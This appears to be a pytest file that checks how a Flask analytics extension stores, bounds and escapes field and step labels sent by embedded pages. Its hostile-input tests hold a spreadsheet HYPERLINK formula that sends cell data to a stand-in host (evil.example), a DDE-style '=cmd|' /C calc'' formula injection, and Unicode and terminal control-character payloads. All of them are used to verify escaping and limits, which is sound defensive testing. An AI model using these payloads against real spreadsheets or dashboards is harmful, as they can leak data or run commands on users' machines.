"""Labels the pages give: a field's label and a step's heading, sent by the embed script as the
``title`` of a ``field_focus`` or ``step_view``, shown on the dashboard where the site gives the
key no label of its own; bounded by the journey's vocabulary and shown as sender text.

The embed script's side, in Chromium, is tests/test_embed_browser.py.
"""

from __future__ import annotations

import datetime as dt
import html
import re

import pytest
from flask import Flask

from flask_journey import Journey, api
from flask_journey.models import PageLabel

from .helpers import JOURNEY, ORG, ORIGIN, batch, event, post

PAGE = f"/journey/{ORG}/{JOURNEY}/"
STEPS = ("eligibility", "details", "review")
#: Distinct hostile labels sent: many on SQLite; fewer on PostgreSQL, where storing them
#: through HTTP takes longer (the same code bounds them either way).
JUNK = {"sqlite": 50_000, "postgresql": 5_000}


@pytest.fixture
def host(tmp_path, database_url) -> Flask:
    """A host app whose staff see every dashboard, refreshed on every report."""
    app = Flask("host", instance_path=str(tmp_path / "instance"))
    app.config.update(
        TESTING=True,
        SECRET_KEY="labels-test",
        JOURNEY_DATABASE_URL=database_url,
        JOURNEY_RATELIMIT_DEFAULT="1000000 per hour",
        JOURNEY_RATELIMIT_PER_CLIENT=None,
        JOURNEY_REPORT_MAX_STALENESS=0,
    )
    journey = Journey(app)
    journey.dashboard_access(lambda org: True)
    with app.app_context():
        api.create_tables()
        api.create_journey(api.create_organization(ORG), JOURNEY, origins=[ORIGIN], steps=STEPS)
    return app


def _at(n: int) -> str:
    start = dt.datetime.now(dt.timezone.utc) - dt.timedelta(hours=2)
    return (start + dt.timedelta(milliseconds=n)).isoformat(timespec="milliseconds")


def _send(client, *events: dict, session: str = "s1") -> None:
    """``events`` as one session's, a millisecond apart."""
    for n, e in enumerate(events):
        e.update(ts=_at(n), sessionId=session)
    response = post(client, batch(*events, deviceClass="desktop"))
    assert response.status_code == 204, response.get_json()


def _visit(client, label: str, *, n: int = 0, session: str = "s1") -> None:
    """A visitor on the details step, focusing the email field whose label is ``label``."""
    _send(
        client,
        event("page_view", f"{n}-1", title="Apply for a grant"),
        event("step_view", f"{n}-2", stepKey="details", title="Your business"),
        event("field_focus", f"{n}-3", stepKey="details", fieldKey="email", title=label),
        event("field_change", f"{n}-4", stepKey="details", fieldKey="email"),
        event("field_blur", f"{n}-5", stepKey="details", fieldKey="email", title="ignored"),
        session=session,
    )


def _label_of(page: str, key: str) -> str | None:
    """The label the page shows for ``key`` (the text of its first labelled element)."""
    found = re.search(rf'<bdi class="labelled" title="{re.escape(key)}">(.*?)</bdi>', page, re.S)
    return html.unescape(found.group(1)) if found else None


def test_the_dashboard_shows_the_label_and_heading_the_page_gave(host):
    client = host.test_client()
    _visit(client, "  Contact\n\temail   address ")

    page = client.get(PAGE).get_data(as_text=True)

    # Whitespace collapsed; the key in the tooltip.
    assert _label_of(page, "email") == "Contact email address"
    assert _label_of(page, "details") == "Your business"
    # A page view's title labels nothing; a blur's title is not a label.
    assert "Apply for a grant" not in page and "ignored" not in page
    with host.app_context():
        journey = api.get_journey(ORG, JOURNEY)
        assert journey.page_labels() == {
            "email": "Contact email address",
            "details": "Your business",
        }
        # The site's own labels are what the management API lists.
        assert journey.to_dict()["labels"] == {}


def test_the_latest_label_a_page_sent_is_kept(host):
    client = host.test_client()
    _visit(client, "Email")
    assert _label_of(client.get(PAGE).get_data(as_text=True), "email") == "Email"

    _visit(client, "Your email address", n=1, session="s2")

    assert _label_of(client.get(PAGE).get_data(as_text=True), "email") == "Your email address"


def test_a_label_the_site_sets_wins_and_the_page_fills_the_gaps(host):
    client = host.test_client()
    _visit(client, "Contact email address")
    with host.app_context():
        api.update_journey(ORG, JOURNEY, labels={"email": "Email (site)"})

    page = client.get(PAGE).get_data(as_text=True)

    assert _label_of(page, "email") == "Email (site)"
    assert "Contact email address" not in page
    assert _label_of(page, "details") == "Your business"
    # Removing the site's label shows the page's again.
    with host.app_context():
        api.update_journey(ORG, JOURNEY, labels={})
    assert _label_of(client.get(PAGE).get_data(as_text=True), "email") == "Contact email address"


def test_a_hostile_label_is_cut_and_shown_as_text(host):
    client = host.test_client()
    formula = '=HYPERLINK("https://evil.example/?"&A1,"<b>Click</b>")'
    _visit(client, formula)
    _send(
        client,
        event("step_view", "c1", stepKey="review", title="Re\u202eview\x1b[31m \x07" + "x" * 400),
        session="s3",
    )

    response = client.get(PAGE)
    page = response.get_data(as_text=True)

    assert response.status_code == 200
    # Escaped as HTML: no element, no attribute of the sender's.
    assert "<b>Click</b>" not in page
    assert _label_of(page, "email") == formula
    # Control and format characters written as escapes; 120 characters kept.
    shown = _label_of(page, "review")
    assert shown is not None and shown.startswith("Re\\u202eview\\x1b[31m \\x07xxx")
    assert "\u202e" not in page and "\x1b" not in page
    with host.app_context():
        kept = api.get_journey(ORG, JOURNEY).page_labels()["review"]
    assert len(kept) == 120 and kept.startswith("Re\u202eview")
    # A title longer than the format allows (512 characters) is refused with its batch.
    long = event("field_focus", "long", stepKey="details", fieldKey="email", title="y" * 10_000)
    refused = post(client, batch(long))
    assert refused.status_code == 400
    assert "title" in refused.get_json()["error"]
    assert "yyyy" not in client.get(PAGE).get_data(as_text=True)


def test_tens_of_thousands_of_labels_keep_one_per_key_the_reports_show(host, database_url):
    junk = JUNK[database_url.partition(":")[0]]
    client = host.test_client()
    _visit(client, "Email")
    # Every field key new, with a label of its own; then one key relabelled again and again.
    for first in range(0, junk, 500):
        events = [
            event(
                "field_focus",
                f"f{n}",
                stepKey="details",
                fieldKey=f"junk-{n}",
                title=f"=cmd|' /C calc'!A{n}",
                ts=_at(1000 + n),
            )
            for n in range(first, min(first + 500, junk))
        ]
        assert post(client, batch(*events)).status_code == 204
    for first in range(0, junk // 10, 500):
        events = [
            event("step_view", f"s{n}", stepKey="review", title=f"Review {n}", ts=_at(10**6 + n))
            for n in range(first, min(first + 500, junk // 10))
        ]
        assert post(client, batch(*events)).status_code == 204

    page = client.get(PAGE)

    assert page.status_code == 200
    assert len(page.get_data()) <= 1_000_000
    with host.app_context():
        labels = api.get_journey(ORG, JOURNEY).page_labels()
        rows = PageLabel.select().count()
    settings = host.extensions["journey"].settings
    # Fields: email and the first 499 junk ones (JOURNEY_MAX_FIELDS); steps: details, review.
    assert rows == len(labels) == settings.max_fields + 2
    assert labels["email"] == "Email"
    assert labels["review"] == f"Review {junk // 10 - 1}"
    assert f"junk-{settings.max_fields}" not in labels
